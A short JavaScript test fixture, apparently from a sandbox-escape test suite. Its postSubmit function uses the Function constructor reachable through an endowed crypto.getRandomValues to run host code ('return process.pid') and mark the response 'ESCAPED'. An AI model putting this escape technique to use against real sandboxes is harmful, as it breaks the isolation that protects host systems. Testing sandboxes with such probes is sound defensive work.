// Takes the constructor of the functions of crypto.
// Class: endowments
// Win: the id holds the process id.
// Control: vm
function postSubmit(options) {
  if (!options.settings.flow.attack) return options.responseData;
  options.responseData[0].id = 'ESCAPED:' + crypto.getRandomValues.constructor('return process.pid')();
  return options.responseData;
}
